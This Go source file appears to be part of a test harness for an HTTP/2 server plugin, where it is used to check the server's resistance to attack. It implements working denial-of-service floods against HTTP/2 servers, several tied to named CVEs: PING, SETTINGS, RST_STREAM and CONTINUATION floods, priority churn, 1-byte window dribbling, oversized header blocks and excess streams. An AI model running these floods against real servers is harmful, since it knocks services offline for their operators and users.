package attacker

// Floods on HTTP/2: frames that give the server work and the attacker
// nothing, sent as fast as a connection takes them.

import (
	"context"
	"encoding/binary"
	"errors"
	"strings"
	"time"

	"golang.org/x/net/http2"

	"github.com/h2file/caddy-h2file/internal/harness/h2client"
)

// floodBatch is how many frames an attacker frames per write.
const floodBatch = 64

// flood is an attack whose attacker, on each connection, runs setup (if
// any), then sends the frames frame makes (i counts them on the
// connection), floodBatch a write, until the server sends GOAWAY or ends
// the connection, or the attack ends.
func flood(name string, o h2client.Options, setup func(c *h2client.Conn, path string) (uint32, error),
	frame func(fr *http2.Framer, block h2client.BlockFunc, path string, id uint32, i int) error) Attack {
	return h2Attack(name, 1, o, false, func(ctx context.Context, c *h2client.Conn, path string, st *Stats) error {
		var id uint32
		if setup != nil {
			var err error
			if id, err = setup(c, path); err != nil {
				return err
			}
			st.Requests.Add(1)
		}
		for i := 0; ctx.Err() == nil; {
			if _, ok := c.GoAwayAt(); ok {
				return nil
			}
			err := c.Batch(func(fr *http2.Framer, block h2client.BlockFunc) error {
				for range floodBatch {
					if err := frame(fr, block, path, id, i); err != nil {
						return err
					}
					i++
				}
				return nil
			})
			if err != nil {
				return err
			}
			st.Frames.Add(floodBatch)
		}
		return nil
	})
}

// openStream opens a GET of path whose request never ends.
func openStream(c *h2client.Conn, path string) (uint32, error) { return c.Open(path, false) }

// getStream opens a GET of path.
func getStream(c *h2client.Conn, path string) (uint32, error) { return c.Get(path) }

// PingFlood (CVE-2019-9512) sends PING frames.
func PingFlood() Attack {
	return flood("PING flood", h2client.Options{}, nil, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, _ uint32, i int) error {
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], uint64(i))
		return fr.WritePing(false, data)
	})
}

// SettingsFlood (CVE-2019-9515) sends empty SETTINGS frames, each to be
// acknowledged.
func SettingsFlood() Attack {
	return flood("SETTINGS flood", h2client.Options{}, nil, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, _ uint32, _ int) error {
		return fr.WriteSettings()
	})
}

// EmptyDataFlood (CVE-2019-9518) sends DATA frames with no payload on a
// request whose body never ends.
func EmptyDataFlood() Attack {
	return flood("empty DATA flood", h2client.Options{}, openStream, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, id uint32, _ int) error {
		return fr.WriteData(id, false, nil)
	})
}

// ContinuationFlood (CVE-2024-27316) opens a header block that it never
// ends, and sends CONTINUATION frames with no fragment.
func ContinuationFlood() Attack {
	setup := func(c *h2client.Conn, path string) (uint32, error) {
		// the ACK of the server's SETTINGS must not come in the middle
		// of the header block (a connection error)
		select {
		case <-c.SettingsAcked():
		case <-time.After(5 * time.Second):
			return 0, errors.New("no SETTINGS from the server")
		}
		var id uint32
		return id, c.Batch(func(fr *http2.Framer, block h2client.BlockFunc) error {
			var b []byte
			id, b = block(path)
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: b, EndStream: true})
		})
	}
	return flood("CONTINUATION flood, empty frames", h2client.Options{}, setup, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, id uint32, _ int) error {
		return fr.WriteContinuation(id, false, nil)
	})
}

// HeaderListFlood sends requests whose header list is larger than any
// server takes: a field of 1 MiB (about 650 KiB coded) in 16 KiB
// fragments, one block a write (Stats.Frames counts 64 a block).
func HeaderListFlood() Attack {
	big := strings.Repeat("x", 1<<20)
	return flood("header lists of 1 MiB", h2client.Options{}, nil, func(fr *http2.Framer, block h2client.BlockFunc, path string, _ uint32, i int) error {
		if i%floodBatch != 0 {
			return nil
		}
		id, b := block(path, [2]string{"x-big", big})
		for first := true; len(b) > 0; first = false {
			frag := b[:min(len(b), 16384)]
			b = b[len(frag):]
			var err error
			if first {
				err = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: frag, EndStream: true, EndHeaders: len(b) == 0})
			} else {
				err = fr.WriteContinuation(id, len(b) == 0, frag)
			}
			if err != nil {
				return err
			}
		}
		return nil
	})
}

// ResetFlood (CVE-2019-9514) sends RST_STREAM frames for a stream that
// its response has ended.
func ResetFlood() Attack {
	return flood("RST_STREAM flood", h2client.Options{}, getStream, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, id uint32, _ int) error {
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// PriorityFlood (CVE-2019-9513) sends PRIORITY frames that move idle
// streams around the RFC 7540 tree.
func PriorityFlood() Attack {
	return flood("PRIORITY churn", h2client.Options{}, nil, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, _ uint32, i int) error {
		id := uint32(2*(i%1000) + 1)
		return fr.WritePriority(id, http2.PriorityParam{StreamDep: uint32(2*((i+7)%1000) + 1), Weight: uint8(i)})
	})
}

// PriorityUpdateFlood sends RFC 9218 PRIORITY_UPDATE frames for streams
// not opened yet.
func PriorityUpdateFlood() Attack {
	return flood("PRIORITY_UPDATE churn", h2client.Options{}, nil, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, _ uint32, i int) error {
		payload := binary.BigEndian.AppendUint32(nil, uint32(2*(i%1000)+1))
		return fr.WriteRawFrame(http2.FramePriorityUpdate, 0, 0, append(payload, "u=1"...))
	})
}

// UnknownFrameFlood sends frames of a type no server knows, which RFC
// 9113 §5.5 says to ignore.
func UnknownFrameFlood() Attack {
	return flood("extension frame flood", h2client.Options{}, nil, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, _ uint32, _ int) error {
		return fr.WriteRawFrame(0xfa, 0, 0, nil)
	})
}

// WindowDribble (CVE-2019-9511) asks for path with no window, then
// gives it a byte at a time, for DATA frames of a byte.
func WindowDribble() Attack {
	return flood("data dribble, 1-byte windows", h2client.Options{ZeroWindow: true}, getStream, func(fr *http2.Framer, _ h2client.BlockFunc, _ string, id uint32, _ int) error {
		return fr.WriteWindowUpdate(id, 1)
	})
}

// TooManyStreams opens streams past SETTINGS_MAX_CONCURRENT_STREAMS
// (250): 250 that get no window and stay open, then more, each refused.
func TooManyStreams() Attack {
	setup := func(c *h2client.Conn, path string) (uint32, error) {
		for range 250 {
			if _, err := c.Get(path); err != nil {
				return 0, err
			}
		}
		return 0, nil
	}
	return flood("streams past the limit", h2client.Options{ZeroWindow: true}, setup, func(fr *http2.Framer, block h2client.BlockFunc, path string, _ uint32, _ int) error {
		id, b := block(path)
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: b, EndStream: true, EndHeaders: true})
	})
}
